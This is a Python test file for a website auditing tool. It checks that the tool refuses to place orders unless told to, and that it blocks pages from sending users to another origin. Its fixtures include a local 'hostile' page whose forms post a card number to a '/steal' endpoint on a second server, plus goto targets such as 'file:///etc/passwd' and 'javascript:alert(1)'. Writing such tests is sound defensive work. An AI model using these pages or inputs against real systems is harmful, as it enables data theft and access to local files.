"""Orders and origins are guarded for the whole browser, whatever the hostile page does.

A hostile local shop (127.0.0.1, stopped by the test) posts its order by every means
a page has besides the ``places_order`` step: Enter in a field of the order form, a
``<select>`` change handler, a script's ``fetch`` to a second endpoint named in the
config. A second server stands for another origin: the shop opens it by
``window.open`` on a timer, a ``target=_blank`` link, a ``target=_blank`` form POST,
a frame and a plain form POST, and loads an image from it. Each server counts what
reached it.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from cx_auditor.browser import find_browser
from cx_auditor.cli import app
from cx_auditor.collector import CollectOptions, Collector
from cx_auditor.config import parse_config
from cx_auditor.models import Artifacts
from typer.testing import CliRunner

from tests.faultsite import FaultSite, page

FAST = {"settle_ms": 50, "probe_chat": False, "probe_links": False}


def _shop(h: Any, q: dict[str, list[str]]) -> None:
    h.send_html(
        page(
            "Checkout",
            """<h1>Checkout</h1>
<form id=order method=post action="/checkout/place">
  <input name=email id=email>
  <select id=ship onchange="fetch('/api/place-order', {method: 'POST', body: 'ship=' + this.value})">
    <option value=std>Standard</option><option value=exp>Express</option></select>
  <button id=place type=submit>Place order</button>
</form>""",
        )
    )


def _count_order(h: Any, q: dict[str, list[str]]) -> None:
    if h.command == "POST":
        h.server.site.orders += 1
    h.send_html(page("Thanks", "<h1>Order placed</h1>"))


@pytest.fixture
def shop() -> Iterator[FaultSite]:
    with FaultSite() as site:
        site.route("/shop", _shop)
        site.route("/checkout/place", _count_order)
        site.route("/api/place-order", _count_order)
        yield site


def _config(site: FaultSite, journeys: list[dict[str, Any]], **collect: Any) -> str:
    doc = {
        "site": {"base_url": site.url},
        "channels": {"desktop": {"preset": "desktop"}},
        "collect": {**FAST, **collect},
        "journeys": journeys,
    }
    return yaml.safe_dump(doc, sort_keys=False)


def _collect(text: str, out: Path, **opts: Any) -> Artifacts:
    cfg = parse_config(text, path=str(out / "audit.yaml"))
    return Collector(cfg, find_browser(), CollectOptions(out=out, **opts)).run()


def _notes(art: Artifacts) -> list[str]:
    return [n for v in art.visits for n in v.probes.get("notes") or []]


ORDER_JOURNEY = {
    "name": "checkout",
    "steps": [
        {"goto": "/shop"},
        {"fill": {"selector": "#email", "value": "qa@example.com"}},
        {"press": {"selector": "#email", "key": "Enter"}, "optional": True},  # submits the form
        {"goto": "/shop"},
        {"select": {"selector": "#ship", "value": "exp"}},  # the change handler posts the order
        {"snapshot": "after select"},
        {"click": "#place", "places_order": True},
    ],
}


@pytest.mark.browser
def test_no_order_reaches_the_server_without_allow_orders(
    shop: FaultSite, tmp_path: Path, browser_ok: None
) -> None:
    text = _config(shop, [ORDER_JOURNEY], order_requests=[{"method": "POST", "url": "/api/place-*"}])
    art = _collect(text, tmp_path / "out")
    assert shop.orders == 0, shop.requests
    notes = _notes(art)
    assert any("refused order request POST" in n and "/checkout/place" in n for n in notes), notes
    assert any("refused order request POST" in n and "/api/place-order" in n for n in notes), notes
    steps = art.journeys[0].steps
    assert steps[-1].skipped and steps[-1].places_order
    # The same journey with --allow-orders does reach the server: the counter counts.
    _collect(text, tmp_path / "allowed", allow_orders=True)
    assert shop.orders >= 2


def _hostile(other: str) -> str:
    return page(
        "Hostile",
        f"""<h1>Hostile</h1><img src="{other}/pixel.png" alt="">
<a id=blank href="{other}/blank" target=_blank>Partner</a>
<form id=blankpost method=post action="{other}/steal" target=_blank>
  <input name=card value=4111111111111111><button id=sendblank>Send</button></form>
<form id=post method=post action="{other}/steal"><input name=card value=4111>
  <button id=send>Send</button></form>
<iframe src="{other}/frame"></iframe>
<script>setTimeout(() => window.open("{other}/timer"), 50);</script>""",
    )


@pytest.mark.browser
def test_no_page_popup_or_frame_leaves_the_allowed_origins(tmp_path: Path, browser_ok: None) -> None:
    with FaultSite() as site, FaultSite() as other:
        site.html_route("/hostile", _hostile(other.url))
        journey = {
            "name": "hostile",
            "steps": [
                {"goto": "/hostile"},
                {"click": "#blank"},
                {"click": "#sendblank"},
                {"snapshot": "still here"},
                {"click": "#send"},
            ],
        }
        art = _collect(_config(site, [journey]), tmp_path / "out")
        reached = {p.split("?")[0] for p in other.requests}
    # Third-party sub-resources stay allowed (and recorded); no document of the other origin loads.
    assert reached <= {"/pixel.png", "/favicon.ico"}, reached
    assert "/pixel.png" in reached
    notes = _notes(art)
    for path in ("/blank", "/steal", "/frame", "/timer"):
        assert any(f"refused off-site navigation to {other.url}{path}" in n for n in notes), (path, notes)
    # Nothing of the other origin was recorded as a page of the audited site.
    assert art.visits and all(v.url.startswith(site.url) for v in art.visits), [v.url for v in art.visits]


@pytest.mark.parametrize(
    "target",
    ["file:///etc/passwd", "data:text/html,<h1>x</h1>", "javascript:alert(1)", "ftp://x/y", "FILE:/etc"],
)
def test_a_goto_to_a_non_web_scheme_is_a_config_error(tmp_path: Path, target: str) -> None:
    cfg = tmp_path / "audit.yaml"
    cfg.write_text(
        yaml.safe_dump(
            {
                "site": {"base_url": "http://127.0.0.1:9"},
                "channels": {"desktop": {"preset": "desktop"}},
                "journeys": [{"name": "j", "steps": [{"goto": target}]}],
            }
        )
    )
    result = CliRunner().invoke(app, ["run", str(cfg), "--out", str(tmp_path / "o"), "--no-history"])
    assert result.exit_code == 2, result.output
    assert "scheme" in result.output and "Traceback" not in result.output
